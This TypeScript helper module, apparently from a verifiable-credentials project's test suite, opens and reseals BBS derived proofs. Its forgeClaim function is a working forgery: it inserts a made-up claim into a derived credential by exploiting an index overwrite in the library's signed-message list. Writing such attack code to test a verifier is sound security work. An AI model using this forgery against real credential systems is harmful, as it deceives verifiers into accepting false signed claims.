import { canonicalize } from '@digitalbazaar/di-sd-primitives'
import { decode, encode } from 'cborg'
import { contextLoader } from '../src/document-loader.ts'
import type { DerivedCredential, DerivedProofContents } from '../src/index.ts'

// What an attacker needs: taking a derived proof apart and putting it together again, by the book and without a
// single check.

const tag = Uint8Array.of(0xd9, 0x5d, 0x03)

export function openProof(proofValue: string): DerivedProofContents {
  const bytes = Buffer.from(proofValue.slice(1), 'base64url')
  const [bbsProof, labelMap, mandatoryIndexes, selectiveIndexes, presentationHeader] = decode(
    bytes.subarray(tag.length),
    { useMaps: true },
  )
  return { bbsProof, labelMap, mandatoryIndexes, selectiveIndexes, presentationHeader }
}

export function sealProof(contents: DerivedProofContents): string {
  const { bbsProof, labelMap, mandatoryIndexes, selectiveIndexes, presentationHeader } = contents
  const payload = encode([bbsProof, labelMap, mandatoryIndexes, selectiveIndexes, presentationHeader])
  return `u${Buffer.concat([tag, payload]).toString('base64url')}`
}

export function replaceProof(proofValue: string, change: Partial<DerivedProofContents>): string {
  return sealProof({ ...openProof(proofValue), ...change })
}

/** A copy of a derived credential that shows one more claim, made up: the made-up statement takes the index of the
 *  last genuine one, which overwrites it in the library's list of signed messages. The claim must come before all
 *  shown ones in the alphabet. */
export async function forgeClaim(
  credential: DerivedCredential,
  claim: Record<string, string>,
): Promise<DerivedCredential> {
  const { proof, ...document } = credential
  const forged = { ...document, credentialSubject: { ...document.credentialSubject, ...claim } }
  const canonical = (await canonicalize(forged, { documentLoader: contextLoader })).trimEnd().split('\n')
  const node = (term: string) =>
    Number(canonical.find((line) => line.includes(`#${term}> _:`))?.match(/_:c14n(\d) \.$/)?.[1])
  const subject = node('credentialSubject')
  const status = node('credentialStatus')
  const labelMap = new Map([
    [subject, 1],
    [status, 2],
    [3 - subject - status, 0],
  ])
  const signedOrder = canonical
    .map((line) => line.replaceAll(/_:c14n(\d)/g, (_, label) => `_:b${labelMap.get(Number(label))}`))
    .sort()
  const contents = openProof(proof.proofValue)
  const isClaim = (line: string) =>
    line.includes('<https://w3id.org/velum/vocab#') && !line.includes('-ns#type>')
  const last = contents.selectiveIndexes.at(-1) ?? 0
  const proofValue = sealProof({
    ...contents,
    labelMap: new Map([...labelMap].sort(([one], [other]) => one - other)),
    mandatoryIndexes: [...signedOrder.keys()].filter((index) => !isClaim(signedOrder[index] ?? '')),
    selectiveIndexes: [last, ...contents.selectiveIndexes],
  })
  return { ...forged, proof: { ...proof, proofValue } } as DerivedCredential
}
